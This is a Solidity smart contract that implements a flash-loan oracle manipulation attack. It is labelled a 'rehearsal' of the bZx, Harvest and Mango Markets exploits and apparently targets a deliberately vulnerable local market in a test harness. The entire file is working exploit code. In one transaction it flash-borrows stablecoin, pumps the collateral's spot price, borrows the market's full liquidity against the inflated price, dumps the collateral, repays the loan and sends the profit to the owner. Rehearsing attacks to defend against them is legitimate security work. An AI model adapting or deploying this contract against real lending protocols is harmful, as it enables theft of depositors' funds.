// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ConstantProductPool, IFlashSwapCallee} from "../../world/ConstantProductPool.sol";
import {VulnerableSpotMarket} from "../vulnerable/VulnerableSpotMarket.sol";

/// @title SpotOracleAttack
/// @notice REHEARSAL ATTACK (bZx Feb 2020, Harvest Oct 2020, Mango Markets Oct 2022 class): in ONE
///         transaction, flash-borrow the stablecoin from one pool, buy the collateral in the pool the
///         market reads to pump its spot price, post part of it as collateral, borrow everything the market
///         lends at the pumped price, sell the rest back, repay the flash swap and keep the difference.
contract SpotOracleAttack is IFlashSwapCallee {
    using SafeERC20 for IERC20;

    address public immutable owner;
    VulnerableSpotMarket public immutable market;
    ConstantProductPool public immutable lenderPool; // flash source: token1 is the stablecoin
    ConstantProductPool public immutable targetPool; // the market's price source: collateral/stablecoin
    IERC20 public immutable stable;
    IERC20 public immutable collateral;

    /// @notice The attack ran: stablecoin profit sent to the owner.
    event Struck(uint256 flashAmount, uint256 borrowed, uint256 profit);

    error NotOwner();
    error NotPool();

    /// @param market_ The victim market.
    /// @param lenderPool_ Pool to flash-borrow the stablecoin from.
    /// @param targetPool_ Pool whose spot price the market reads.
    constructor(VulnerableSpotMarket market_, ConstantProductPool lenderPool_, ConstantProductPool targetPool_) {
        owner = msg.sender;
        market = market_;
        lenderPool = lenderPool_;
        targetPool = targetPool_;
        stable = targetPool_.token1();
        collateral = targetPool_.token0();
    }

    /// @notice Run the whole attack in this transaction with a flash swap of `flashAmount`.
    function attack(uint256 flashAmount) external {
        if (msg.sender != owner) revert NotOwner();
        lenderPool.swap(0, flashAmount, address(this), abi.encode(flashAmount));
        uint256 profit = stable.balanceOf(address(this));
        stable.safeTransfer(owner, profit);
        emit Struck(flashAmount, market.debtOf(address(this)), profit);
    }

    /// @inheritdoc IFlashSwapCallee
    function onFlashSwap(address, uint256, uint256 amount1Out, bytes calldata) external {
        if (msg.sender != address(lenderPool)) revert NotPool();
        // 1. Pump: spend the flash-borrowed stablecoin on the collateral.
        uint256 bought = targetPool.getAmountOut(amount1Out, false);
        stable.safeTransfer(address(targetPool), amount1Out);
        targetPool.swap(bought, 0, address(this), "");
        // 2. Post just enough collateral to borrow all the market's liquidity at the pumped spot price.
        uint256 liquidity = stable.balanceOf(address(market));
        uint256 spot = market.spotPrice();
        uint256 need = (liquidity * 1e12 * 10_000 / market.LTV_BPS()) * 1e18 / spot + 1;
        if (need > bought) need = bought;
        collateral.forceApprove(address(market), need);
        market.depositCollateral(need);
        uint256 limit = market.borrowLimit(address(this), spot);
        market.borrow(limit < liquidity ? limit : liquidity);
        // 3. Dump the remaining collateral back into the pool.
        uint256 rest = collateral.balanceOf(address(this));
        uint256 back = targetPool.getAmountOut(rest, true);
        collateral.safeTransfer(address(targetPool), rest);
        targetPool.swap(0, back, address(this), "");
        // 4. Repay the flash swap (0.3% fee on the input).
        stable.safeTransfer(address(lenderPool), amount1Out + (amount1Out * 30) / 9_970 + 1);
    }
}
